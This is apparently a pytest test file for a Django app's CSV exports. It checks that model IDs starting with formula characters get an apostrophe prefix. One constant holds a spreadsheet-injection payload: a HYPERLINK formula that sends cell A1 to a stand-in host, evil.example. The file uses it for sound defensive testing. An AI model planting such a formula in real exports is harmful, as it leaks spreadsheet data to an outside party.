"""estimator.csv_cells: no CSV the app writes can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from urllib.parse import urlencode

import pytest

from estimator.csv_cells import from_spreadsheet_cell, spreadsheet_cell
from pricing.models import LanguageModel, TokenPrice
from pricing.sync import sync_prices

HOSTILE_ID = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("gpt-4.1", "gpt-4.1"),
        ("'quoted", "'quoted"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-9", "-1e-9"),
        ("-.5", "-.5"),
        (None, ""),
        (12, "12"),
        ("", ""),
    ],
)
def test_formula_leading_text_gets_an_apostrophe_and_comes_back(value, cell):
    assert spreadsheet_cell(value) == cell
    if isinstance(value, str):
        assert from_spreadsheet_cell(cell) == value


def hostile_model() -> None:
    template = TokenPrice.objects.filter(model_id="gpt-4.1", service_tier="standard").first()
    assert template is not None
    model = LanguageModel.objects.get(pk="gpt-4.1")
    model.pk, model.is_default, model.name = HOSTILE_ID, False, HOSTILE_ID
    model.save(force_insert=True)
    template.pk, template.model_id = None, HOSTILE_ID
    template.save()


def cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


@pytest.mark.django_db
def test_the_live_and_shared_exports_escape_a_formula_model_id(client, settings):
    settings.RATELIMIT_ENABLED = False
    sync_prices()
    hostile_model()
    live = client.get(f"/export.csv?{urlencode({'model': HOSTILE_ID})}")
    assert live.status_code == 200, live.content[:300]
    share = client.post("/share", {"model": HOSTILE_ID})
    assert share.status_code == 302, share.content[:300]
    shared = client.get(f"{share['Location']}.csv")
    for body in (live.content, shared.content):
        found = cells(body)
        assert "'" + HOSTILE_ID in found
        assert not any(cell.startswith(("=", "+", "@")) for cell in found)
        assert not any(
            cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit() for cell in found
        )
